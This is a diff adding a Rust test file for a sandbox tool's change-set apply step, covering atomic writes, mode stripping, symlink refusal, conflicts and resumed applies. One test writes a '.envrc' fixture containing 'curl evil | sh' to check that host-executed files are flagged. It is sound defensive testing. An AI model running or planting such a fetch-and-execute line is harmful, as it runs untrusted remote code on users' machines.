@@ -1,0 +1,525 @@
+//! Applying change sets: atomic writes, modes, links never followed, conflicts, flags,
+//! interrupted applies.
+
+use std::os::unix::fs::MetadataExt;
+
+use super::*;
+
+fn rules() -> FlagRules {
+    FlagRules::default()
+}
+
+fn no_temps(dir: &Path) {
+    for name in listing(dir) {
+        assert!(
+            !name.starts_with(APPLY_TEMP_PREFIX),
+            "{name} left in {}",
+            dir.display()
+        );
+    }
+}
+
+#[test]
+fn apply_writes_files_whole_keeps_modes_and_never_sets_setuid() {
+    let fx = Fx::new();
+    let old = fx.lower("mod.txt", "old\n");
+    let old_ino = std::fs::metadata(&old).unwrap().ino();
+    let mut run = fx.start("write");
+    up(&run, "mod.txt", "new\n");
+    chmod(&up(&run, "private", "p\n"), 0o640);
+    chmod(&up(&run, "bin/tool", "t\n"), 0o755);
+    chmod(&up(&run, "su", "s\n"), 0o4755);
+    chmod(&up(&run, "sticky", "s\n"), 0o1644);
+    std::os::unix::fs::symlink("mod.txt", run.upper().join("link")).unwrap();
+    chmod(&run.upper().join("bin"), 0o750);
+    run.finish(&rules()).unwrap();
+
+    let report = run.apply(&accept_all(), &rules()).unwrap();
+    assert_eq!(report.remaining, 0);
+    assert_eq!(
+        report.written,
+        ["bin", "bin/tool", "link", "mod.txt", "private", "sticky", "su"].map(p)
+    );
+    assert_eq!(std::fs::read_to_string(&old).unwrap(), "new\n");
+    // Replaced by a rename: a new inode, never the old file rewritten in place.
+    assert_ne!(std::fs::metadata(&old).unwrap().ino(), old_ino);
+    assert_eq!(mode_of(&fx.ws.join("private")), 0o640);
+    assert_eq!(mode_of(&fx.ws.join("bin")), 0o750);
+    assert_eq!(mode_of(&fx.ws.join("bin/tool")), 0o755);
+    assert_eq!(mode_of(&fx.ws.join("su")), 0o755);
+    assert_eq!(mode_of(&fx.ws.join("sticky")), 0o644);
+    assert_eq!(
+        std::fs::read_link(fx.ws.join("link")).unwrap(),
+        p("mod.txt")
+    );
+    no_temps(&fx.ws);
+    no_temps(&fx.ws.join("bin"));
+    // Applied whole: the change set is gone.
+    assert!(!run.path().exists());
+    assert!(fx.store.runs().unwrap().is_empty());
+    assert!(run.changes(&rules()).is_err());
+}
+
+#[test]
+fn apply_before_finish_is_refused() {
+    let fx = Fx::new();
+    let mut run = fx.start("unfinished");
+    up(&run, "a", "a\n");
+    let e = run.apply(&accept_all(), &rules()).unwrap_err();
+    assert!(matches!(e, ChangesError::NotFinished { .. }), "{e}");
+    assert!(!fx.ws.join("a").exists());
+    // An unfinished run's changes are read afresh.
+    assert_eq!(run.changes(&rules()).unwrap().entries.len(), 1);
+}
+
+#[test]
+fn a_link_on_the_way_to_a_destination_is_refused_and_nothing_goes_through_it() {
+    for with_link in [true, false] {
+        let fx = Fx::new();
+        fx.lower("d/keep", "k\n");
+        let mut run = fx.start("parent-link");
+        up(&run, "d/new", "n\n");
+        run.finish(&rules()).unwrap();
+        if with_link {
+            // The host (or another run) swaps the directory for a link after the run.
+            std::fs::rename(fx.ws.join("d"), fx.root.join("d-moved")).unwrap();
+            std::os::unix::fs::symlink(&fx.outside, fx.ws.join("d")).unwrap();
+            let e = run.apply(&accept_all(), &rules()).unwrap_err();
+            let ChangesError::Conflict(list) = &e else {
+                panic!("{e}");
+            };
+            assert_eq!(list[0].0, p("d/new"));
+            assert!(list[0].1.contains("symbolic link"), "{}", list[0].1);
+            assert_eq!(e.registry_code(), sandbox::Code::ChangesConflict);
+            assert!(listing(&fx.outside).is_empty());
+            assert!(run.path().exists(), "a refused change set stays");
+        } else {
+            let report = run.apply(&accept_all(), &rules()).unwrap();
+            assert_eq!(report.written, [p("d/new")]);
+            assert_eq!(std::fs::read_to_string(fx.ws.join("d/new")).unwrap(), "n\n");
+        }
+    }
+}
+
+#[test]
+fn an_accepted_link_is_made_a_link_and_nothing_is_written_below_it() {
+    let fx = Fx::new();
+    fx.lower("readme", "r\n");
+    // Two runs from the same workspace: one makes `a` a link out of the workspace, the
+    // other a directory `a` with a file in it.
+    let mut links = fx.start("link");
+    std::os::unix::fs::symlink(&fx.outside, links.upper().join("a")).unwrap();
+    let mut dirs = fx.start("dir");
+    up(&dirs, "a/x", "x\n");
+    let set = links.finish(&rules()).unwrap();
+    assert_eq!(codes(&set, "a"), ["symlink", "symlink-outside"]);
+    dirs.finish(&rules()).unwrap();
+
+    let e = links.apply(&ApplyOptions::default(), &rules()).unwrap_err();
+    assert!(matches!(e, ChangesError::Flagged(_)), "{e}");
+    let accept = ApplyOptions {
+        accept: vec![p("a")],
+        ..Default::default()
+    };
+    links.apply(&accept, &rules()).unwrap();
+    assert!(std::fs::symlink_metadata(fx.ws.join("a"))
+        .unwrap()
+        .file_type()
+        .is_symlink());
+
+    let e = dirs.apply(&accept_all(), &rules()).unwrap_err();
+    let ChangesError::Conflict(list) = &e else {
+        panic!("{e}");
+    };
+    let paths: Vec<&PathBuf> = list.iter().map(|(p, _)| p).collect();
+    assert_eq!(paths, [&p("a"), &p("a/x")]);
+    assert!(list[1].1.contains("symbolic link"), "{}", list[1].1);
+    assert!(listing(&fx.outside).is_empty());
+}
+
+#[test]
+fn a_destination_changed_after_the_run_is_a_conflict() {
+    for host_edits in [true, false] {
+        let fx = Fx::new();
+        let f = fx.lower("f.txt", "v1\n");
+        let mut run = fx.start("conflict");
+        up(&run, "f.txt", "v2\n");
+        up(&run, "new.txt", "mine\n");
+        run.finish(&rules()).unwrap();
+        if host_edits {
+            std::fs::write(&f, "v3\n").unwrap();
+            std::fs::write(fx.ws.join("new.txt"), "theirs\n").unwrap();
+            let e = run.apply(&accept_all(), &rules()).unwrap_err();
+            let ChangesError::Conflict(list) = &e else {
+                panic!("{e}");
+            };
+            assert_eq!(list.len(), 2, "{list:?}");
+            assert!(list[0].1.contains("since the run ended"), "{}", list[0].1);
+            assert!(
+                list[1].1.contains("exists in the workspace now"),
+                "{}",
+                list[1].1
+            );
+            assert_eq!(std::fs::read_to_string(&f).unwrap(), "v3\n");
+            // Leaving them out applies the rest (nothing here) and keeps them pending.
+            let skip = ApplyOptions {
+                exclude: vec![p("f.txt"), p("new.txt")],
+                ..accept_all()
+            };
+            let report = run.apply(&skip, &rules()).unwrap();
+            assert_eq!(report.remaining, 2);
+        } else {
+            let report = run.apply(&accept_all(), &rules()).unwrap();
+            assert_eq!(report.written, [p("f.txt"), p("new.txt")]);
+            assert_eq!(std::fs::read_to_string(&f).unwrap(), "v2\n");
+        }
+    }
+}
+
+#[test]
+fn a_path_the_host_changed_during_the_run_is_a_conflict() {
+    let fx = Fx::new();
+    let f = fx.lower("f.txt", "v1\n");
+    let mut run = fx.start("during");
+    // The run writes the path (overlayfs copies it up), then the host changes it: the run
+    // never saw the host's version.
+    up(&run, "f.txt", "run\n");
+    std::thread::sleep(Duration::from_millis(30));
+    std::fs::write(&f, "host\n").unwrap();
+    run.finish(&rules()).unwrap();
+    let base = &run.meta().finished.as_ref().unwrap().entries[0].base;
+    assert!(base.changed_during_run);
+    let e = run.apply(&accept_all(), &rules()).unwrap_err();
+    let ChangesError::Conflict(list) = &e else {
+        panic!("{e}");
+    };
+    assert!(list[0].1.contains("while the run went on"), "{}", list[0].1);
+    assert_eq!(std::fs::read_to_string(&f).unwrap(), "host\n");
+}
+
+/// Control: the host changed the path during the run but before the run first wrote it, so
+/// the run's version was made from the host's: no conflict.
+#[test]
+fn a_host_change_the_run_saw_before_writing_is_not_a_conflict() {
+    let fx = Fx::new();
+    let f = fx.lower("f.txt", "v1\n");
+    let mut run = fx.start("saw-it");
+    std::thread::sleep(Duration::from_millis(30));
+    std::fs::write(&f, "host\n").unwrap();
+    std::thread::sleep(Duration::from_millis(30));
+    up(&run, "f.txt", "run\n");
+    run.finish(&rules()).unwrap();
+    let base = &run.meta().finished.as_ref().unwrap().entries[0].base;
+    assert!(!base.changed_during_run);
+    run.apply(&accept_all(), &rules()).unwrap();
+    assert_eq!(std::fs::read_to_string(&f).unwrap(), "run\n");
+}
+
+#[test]
+fn an_interrupted_apply_resumes_and_names_what_was_already_there() {
+    let fx = Fx::new();
+    let mut run = fx.start("resume");
+    up(&run, "a", "a\n");
+    up(&run, "b", "b\n");
+    up(&run, "c", "c\n");
+    run.finish(&rules()).unwrap();
+
+    let only_a = ApplyOptions {
+        only: vec![p("a")],
+        ..Default::default()
+    };
+    let report = run.apply(&only_a, &rules()).unwrap();
+    assert_eq!(
+        (report.written.clone(), report.remaining),
+        (vec![p("a")], 2)
+    );
+    let left: Vec<PathBuf> = run
+        .changes(&rules())
+        .unwrap()
+        .entries
+        .into_iter()
+        .map(|c| c.path)
+        .collect();
+    assert_eq!(left, [p("b"), p("c")]);
+    assert!(run.diff(&[]).unwrap().contains("b/b") && !run.diff(&[]).unwrap().contains("b/a"));
+
+    // An apply killed after writing `b` and before logging it, leaving a temporary file.
+    std::fs::write(fx.ws.join("b"), "b\n").unwrap();
+    chmod(&fx.ws.join("b"), 0o644);
+    let temp = fx.ws.join(format!("{APPLY_TEMP_PREFIX}0123456789abcdef"));
+    std::fs::write(&temp, "half").unwrap();
+    let mine = fx.ws.join(".stockade-apply-notours");
+    std::fs::write(&mine, "user's").unwrap();
+
+    let mut again = fx.store.find(Some("resume"), None).unwrap();
+    let report = again.apply(&ApplyOptions::default(), &rules()).unwrap();
+    assert_eq!(report.written, [p("c")]);
+    assert_eq!(report.already, [p("b")]);
+    assert_eq!(report.remaining, 0);
+    assert!(!temp.exists());
+    assert!(mine.exists(), "only apply's own names are removed");
+    assert!(!again.path().exists());
+}
+
+/// Makes a directory refuse new entries (as root too: the immutable attribute), or lets it
+/// take them again; `false` when this filesystem has no such attribute.
+fn block(dir: &Path, on: bool) -> bool {
+    if !is_root() {
+        chmod(dir, if on { 0o555 } else { 0o755 });
+        return true;
+    }
+    let fd = rustix::fs::open(dir, rustix::fs::OFlags::RDONLY, Mode::empty()).unwrap();
+    let flags = if on {
+        rustix::fs::IFlags::IMMUTABLE
+    } else {
+        rustix::fs::IFlags::empty()
+    };
+    rustix::fs::ioctl_setflags(&fd, flags).is_ok()
+}
+
+#[test]
+fn an_apply_that_fails_midway_logs_and_records_what_it_wrote() {
+    let fx = Fx::new();
+    fx.lower("blocked/keep", "k\n");
+    let mut run = fx.start("log");
+    up(&run, "a", "a\n");
+    up(&run, "blocked/b", "b\n");
+    run.finish(&rules()).unwrap();
+    // Writing `blocked/b` fails: its directory takes no new entry.
+    if !block(&fx.ws.join("blocked"), true) {
+        eprintln!("skipped: this filesystem cannot make a directory immutable");
+        return;
+    }
+    let e = run.apply(&accept_all(), &rules()).unwrap_err();
+    block(&fx.ws.join("blocked"), false);
+    assert!(matches!(e, ChangesError::Apply { .. }), "{e}");
+    let log = std::fs::read_to_string(run.path().join("applied.log")).unwrap();
+    assert_eq!(log, "{\"op\":\"written\",\"path\":\"a\"}\n");
+    assert_eq!(
+        run.applied_log().unwrap(),
+        [("written".to_string(), p("a"))]
+    );
+    assert_eq!(run.meta().applied, [p("a")]);
+    let left = run.changes(&rules()).unwrap();
+    assert_eq!(kinds(&left), [("blocked/b".to_string(), ChangeKind::Added)]);
+
+    let again = run.apply(&accept_all(), &rules()).unwrap();
+    assert_eq!(again.written, [p("blocked/b")]);
+    assert!(again.already.is_empty());
+    assert_eq!(again.remaining, 0);
+}
+
+#[test]
+fn an_entry_written_but_not_recorded_is_found_already_there() {
+    let fx = Fx::new();
+    let mut run = fx.start("killed");
+    up(&run, "a", "a\n");
+    up(&run, "b", "b\n");
+    run.finish(&rules()).unwrap();
+    // An apply killed after writing and logging `a`, before recording it.
+    std::fs::write(fx.ws.join("a"), "a\n").unwrap();
+    chmod(&fx.ws.join("a"), 0o644);
+    std::fs::write(
+        run.path().join("applied.log"),
+        "{\"op\":\"written\",\"path\":\"a\"}\n{\"op\":\"wri",
+    )
+    .unwrap();
+    assert_eq!(
+        run.applied_log().unwrap(),
+        [("written".to_string(), p("a"))]
+    );
+    let report = run.apply(&ApplyOptions::default(), &rules()).unwrap();
+    assert_eq!(
+        (report.already, report.written),
+        (vec![p("a")], vec![p("b")])
+    );
+}
+
+#[test]
+fn flagged_entries_need_accepting() {
+    let fx = Fx::new();
+    let mut run = fx.start("flagged");
+    up(&run, ".envrc", "curl evil | sh\n");
+    up(&run, "notes.txt", "n\n");
+    run.finish(&rules()).unwrap();
+    let e = run.apply(&ApplyOptions::default(), &rules()).unwrap_err();
+    let ChangesError::Flagged(list) = &e else {
+        panic!("{e}");
+    };
+    assert_eq!(list.len(), 1);
+    assert_eq!(list[0].0, p(".envrc"));
+    assert_eq!(list[0].1[0].code, "host-executed");
+    assert_eq!(e.registry_code(), sandbox::Code::ChangesFlagged);
+    assert!(e.hint().unwrap().contains("--accept"));
+    assert!(listing(&fx.ws).is_empty(), "nothing written");
+
+    let accept = ApplyOptions {
+        accept: vec![p("./.envrc")],
+        ..Default::default()
+    };
+    let report = run.apply(&accept, &rules()).unwrap();
+    assert_eq!(report.written, [p(".envrc"), p("notes.txt")]);
+}
+
+#[test]
+fn a_replaced_directory_loses_what_the_upper_does_not_hold() {
+    for host_adds in [false, true] {
+        let fx = Fx::new();
+        fx.lower("e/old1", "1\n");
+        fx.lower("e/old2", "2\n");
+        fx.lower("e/sub/deep", "d\n");
+        let mut run = fx.start("replaced");
+        up_dir(&run, "e");
+        opaque(&run, "e");
+        up(&run, "e/new", "n\n");
+        run.finish(&rules()).unwrap();
+        if host_adds {
+            fx.lower("e/host-made", "h\n");
+            let e = run.apply(&accept_all(), &rules()).unwrap_err();
+            let ChangesError::Conflict(list) = &e else {
+                panic!("{e}");
+            };
+            assert_eq!(list[0].0, p("e"));
+            assert!(list[0].1.contains("e/host-made"), "{}", list[0].1);
+            continue;
+        }
+        let report = run.apply(&accept_all(), &rules()).unwrap();
+        assert_eq!(report.deleted, [p("e/old1"), p("e/old2"), p("e/sub")]);
+        assert_eq!(listing(&fx.ws.join("e")), ["new"]);
+    }
+}
+
+#[test]
+fn deletions_and_type_changes_apply() {
+    let fx = Fx::new();
+    fx.lower("gone", "g\n");
+    fx.lower("tree/a/b/c", "c\n");
+    fx.lower("was-dir/x", "x\n");
+    fx.lower("was-file", "f\n");
+    let mut run = fx.start("types");
+    if !whiteout(&run, "gone") || !whiteout(&run, "tree") {
+        return;
+    }
+    up(&run, "was-dir", "now a file\n");
+    up(&run, "was-file/inside", "i\n");
+    let set = run.finish(&rules()).unwrap();
+    assert_eq!(
+        kinds(&set),
+        [
+            ("gone".to_string(), ChangeKind::Deleted),
+            ("tree".to_string(), ChangeKind::Deleted),
+            ("was-dir".to_string(), ChangeKind::TypeChanged),
+            ("was-file".to_string(), ChangeKind::TypeChanged),
+            ("was-file/inside".to_string(), ChangeKind::Added),
+        ]
+    );
+    let report = run.apply(&ApplyOptions::default(), &rules()).unwrap();
+    assert_eq!(report.deleted, [p("gone"), p("tree")]);
+    assert_eq!(listing(&fx.ws), ["was-dir", "was-file"]);
+    assert_eq!(
+        std::fs::read_to_string(fx.ws.join("was-dir")).unwrap(),
+        "now a file\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(fx.ws.join("was-file/inside")).unwrap(),
+        "i\n"
+    );
+}
+
+#[test]
+fn only_selects_the_directories_an_entry_needs() {
+    let fx = Fx::new();
+    let mut run = fx.start("parents");
+    up(&run, "new/dir/file", "f\n");
+    up(&run, "other", "o\n");
+    run.finish(&rules()).unwrap();
+    let only = ApplyOptions {
+        only: vec![p("new/dir/file")],
+        ..Default::default()
+    };
+    let report = run.apply(&only, &rules()).unwrap();
+    assert_eq!(report.written, [p("new"), p("new/dir"), p("new/dir/file")]);
+    assert_eq!(report.remaining, 1);
+    let bad = ApplyOptions {
+        only: vec![p("../x")],
+        ..Default::default()
+    };
+    assert!(matches!(
+        run.apply(&bad, &rules()),
+        Err(ChangesError::BadPath { .. })
+    ));
+    let none = ApplyOptions {
+        only: vec![p("nothing-here")],
+        ..Default::default()
+    };
+    assert!(matches!(
+        run.apply(&none, &rules()),
+        Err(ChangesError::NoSuchChange(_))
+    ));
+}
+
+#[test]
+fn root_gives_new_files_the_workspaces_owner_and_keeps_a_replaced_ones() {
+    if !is_root() {
+        eprintln!("skipped: changing owners needs root");
+        return;
+    }
+    let fx = Fx::new();
+    std::os::unix::fs::chown(&fx.ws, Some(1000), Some(1000)).unwrap();
+    let kept = fx.lower("kept", "k\n");
+    std::os::unix::fs::chown(&kept, Some(1234), Some(1235)).unwrap();
+    let mut run = fx.start("owners");
+    up(&run, "kept", "k2\n");
+    up(&run, "dir/new", "n\n");
+    run.finish(&rules()).unwrap();
+    run.apply(&ApplyOptions::default(), &rules()).unwrap();
+    let owner = |rel: &str| {
+        let m = std::fs::metadata(fx.ws.join(rel)).unwrap();
+        (m.uid(), m.gid())
+    };
+    assert_eq!(owner("kept"), (1234, 1235));
+    assert_eq!(owner("dir"), (1000, 1000));
+    assert_eq!(owner("dir/new"), (1000, 1000));
+}
+
+#[test]
+fn a_deletion_the_host_already_made_is_already_done() {
+    let fx = Fx::new();
+    fx.lower("d/e/f", "f\n");
+    fx.lower("g", "g\n");
+    let mut run = fx.start("gone");
+    if !whiteout(&run, "d/e/f") || !whiteout(&run, "g") {
+        return;
+    }
+    run.finish(&rules()).unwrap();
+    std::fs::remove_dir_all(fx.ws.join("d")).unwrap();
+    std::fs::remove_file(fx.ws.join("g")).unwrap();
+    let report = run.apply(&ApplyOptions::default(), &rules()).unwrap();
+    assert_eq!(report.already, [p("d/e/f"), p("g")]);
+    assert!(report.deleted.is_empty());
+}
+
+#[test]
+fn refusals_name_at_most_twenty_entries() {
+    let list: Vec<(PathBuf, String)> = (0..25).map(|i| (p(&format!("f{i}")), "x".into())).collect();
+    let text = ChangesError::Conflict(list).to_string();
+    assert!(
+        text.starts_with("refusing to apply: 25 entries changed"),
+        "{text}"
+    );
+    assert!(text.ends_with("; and 5 more"), "{text}");
+}
+
+#[test]
+fn a_workspace_path_that_names_another_directory_is_refused() {
+    let fx = Fx::new();
+    let mut run = fx.start("moved");
+    up(&run, "a", "a\n");
+    run.finish(&rules()).unwrap();
+    std::fs::rename(&fx.ws, fx.root.join("ws-old")).unwrap();
+    std::fs::create_dir(&fx.ws).unwrap();
+    let e = run.apply(&accept_all(), &rules()).unwrap_err();
+    assert!(matches!(e, ChangesError::Conflict(_)), "{e}");
+    assert!(e.to_string().contains("another directory"), "{e}");
+    assert!(listing(&fx.ws).is_empty());
+}
